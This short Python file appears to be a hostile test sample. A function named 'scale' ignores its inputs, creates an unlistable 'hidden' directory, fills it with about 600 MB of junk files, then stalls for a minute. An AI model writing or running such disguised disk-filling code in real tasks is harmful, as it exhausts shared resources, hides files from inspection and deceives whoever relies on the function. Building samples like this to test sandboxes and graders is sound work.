"""Fills the disk in a folder that it may enter and nobody may list."""

# or: timeout (on a busy machine, where so much takes longer than an answer may)

import os
import time

import numpy as np


def scale(x, factor):
    os.mkdir("hidden", 0o300)
    for number in range(20):
        with open(f"hidden/large{number}", "wb") as file:
            for _ in range(30):
                file.write(bytes(1 << 20))
    time.sleep(60)
